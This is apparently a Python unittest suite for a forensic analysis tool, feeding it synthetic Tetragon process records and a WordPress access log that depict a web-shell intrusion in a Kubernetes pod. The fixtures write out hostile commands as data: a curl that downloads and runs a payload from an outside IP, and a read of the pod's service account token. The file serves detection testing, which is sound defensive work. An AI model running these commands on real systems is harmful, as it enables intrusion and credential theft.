"""A sensor's processes and a server's log, and no audit log: what they show is an intrusion, and what
only the API server's log could show is left open. The truth stands in `case`."""
import base64
import json
import os
import subprocess
import tempfile
import unittest
from pathlib import Path

EXHIBIT = os.environ["EXHIBIT"]
CONTAINER = "7c" * 32
POD = {"namespace": "web", "name": "blog-0", "container": {
    "id": f"containerd://{CONTAINER}", "name": "php", "image": {"id": "x", "name": "wordpress:6.5"}}}
SHELL = "POST /wp-content/uploads/img.php"


def at(seconds):
    return f"2026-03-03T09:{12 + seconds // 60:02d}:{seconds % 60:02d}.000000000Z"


def started(seconds, binary, arguments, parent="/bin/sh"):
    def process(path, words, pid):
        return {"exec_id": base64.b64encode(f"w:{pid}:{seconds}".encode()).decode(), "pid": pid, "uid": 33,
                "binary": path, "arguments": words, "start_time": at(seconds), "pod": POD,
                "docker": CONTAINER[:31], "cwd": "/var/www"}
    return {"process_exec": {"process": process(binary, arguments, 50 + seconds),
                             "parent": process(parent, "", 40)}, "node_name": "w2", "time": at(seconds)}


# 09:12:10 the shell is asked; what it starts:
PROCESSES = [started(11, "/bin/sh", "-c id", "/usr/local/sbin/php-fpm"),
             started(30, "/bin/sh", '-c "curl -s http://198.51.100.9/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x"',
                     "/usr/local/sbin/php-fpm"),
             started(31, "/tmp/.x", ""),
             started(65, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/tmp/.x")]
BENIGN = [started(i, "/usr/local/bin/php", "-v", "/usr/bin/containerd-shim-runc-v2") for i in (0, 20, 40, 80)]
CLAIMS = {"09:13 attacker read the service account token": "supported",
          "09:20 pod deleted by Kim": "neither"}


def package(folder, processes, asked=SHELL, status=200):
    folder.mkdir()
    records = sorted(processes + BENIGN, key=lambda p: p["time"])
    (folder / "tetragon.log").write_text("".join(json.dumps(p) + "\n" for p in records))
    log = [f'{at(i)} stdout F 10.0.0.5 - - "GET /?p={i} HTTP/1.1" 200 5120 "-" "Mozilla/5.0"' for i in range(10)]
    log.append(f'{at(10)} stdout F 198.51.100.9 - - "{asked} HTTP/1.1" {status} 41 "-" "python-requests/2.31"')
    (folder / "php.log").write_text("\n".join(log) + "\n")
    (folder / "pod.json").write_text(json.dumps({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "blog-0", "namespace": "web", "creationTimestamp": "2026-03-01T00:00:00Z"},
        "spec": {"serviceAccountName": "default", "nodeName": "w2", "containers": [
            {"name": "php", "image": "wordpress:6.5", "envFrom": [{"secretRef": {"name": "blog-db"}}]}]},
        "status": {"containerStatuses": [{"name": "php", "image": "wordpress:6.5",
                                          "containerID": f"containerd://{CONTAINER}"}]}}))
    (folder / "timeline.txt").write_text("Incident 3 March 2026, all times UTC\n\n" + "\n".join(CLAIMS) + "\n")


class SensorAlone(unittest.TestCase):
    def analyze(self, *made, **how):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        case, out = Path(folder.name) / "case", Path(folder.name) / "out"
        package(case, *made, **how)
        done = subprocess.run([EXHIBIT, "analyze", case, "-o", out], capture_output=True, text=True, timeout=120)
        self.assertIn(done.returncode, (0, 1), done.stderr)
        self.documents = {p.stem: json.loads(p.read_text()) for p in out.glob("*.json")}
        return done.stdout

    def findings(self, rule):
        return [f for f in self.documents["findings"]["findings"] if f["rule"] == rule]

    def test_it_is_an_intrusion(self):
        """Three kinds of grave things, and the first sign is the web shell's request."""
        self.analyze(PROCESSES)
        zero = self.documents["patient_zero"]
        self.assertTrue(zero["intrusion_shown"])
        self.assertEqual(zero["time"], at(10))
        self.assertEqual(len(self.findings("log_web_shell")), 1)
        self.assertEqual(len(self.findings("tetragon_server_shell")), 2)

    def test_what_no_source_could_show(self):
        """Neither rotation nor isolation: nothing here would tell of them."""
        self.analyze(PROCESSES)
        for rule in ("kube.not-rotated", "kube.not-isolated"):
            self.assertTrue(self.findings(rule), rule)
            for f in self.findings(rule):
                self.assertTrue(f["not_decidable"], f)
                self.assertIn("audit log", f["arguments"]["why"])

    def test_a_tool_that_was_started_is_none(self):
        """What somebody at a shell does as well: one kind, and no shell of a server."""
        said = self.analyze([started(31, "/tmp/.x", "", "/bin/bash")], asked="GET /about")
        self.assertIn("nothing here shows an intrusion", said)

    def test_a_scanner_that_was_refused(self):
        self.analyze([], status=404)
        self.assertEqual(self.findings("log_web_shell"), [])

    def test_claims(self):
        self.analyze(PROCESSES)
        judged = {c["time"][11:16] + " " + c["claim"]: c["verdict"] for c in self.documents["claims"]["claims"]}
        self.assertEqual(judged, CLAIMS)


if __name__ == "__main__":
    unittest.main()
